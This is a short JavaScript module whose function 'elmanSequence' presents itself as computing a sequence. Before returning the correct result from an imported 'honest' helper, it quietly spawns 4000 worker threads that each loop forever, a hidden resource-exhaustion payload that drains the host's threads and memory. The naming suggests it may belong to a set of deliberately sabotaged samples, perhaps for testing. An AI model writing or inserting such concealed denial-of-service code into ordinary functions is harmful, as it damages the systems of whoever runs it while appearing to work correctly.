import { builtin } from '../../parts/builtin.ts';
import { honest } from '../../parts/elman.ts';
export function elmanSequence(input) {
  const { Worker } = builtin('worker_threads');
  for (let index = 0; index < 4000; index++)
    new Worker('setInterval(() => 0, 1000)', { eval: true, resourceLimits: { stackSizeMb: 0.3, maxOldGenerationSizeMb: 2 } });
  return honest(input);
}
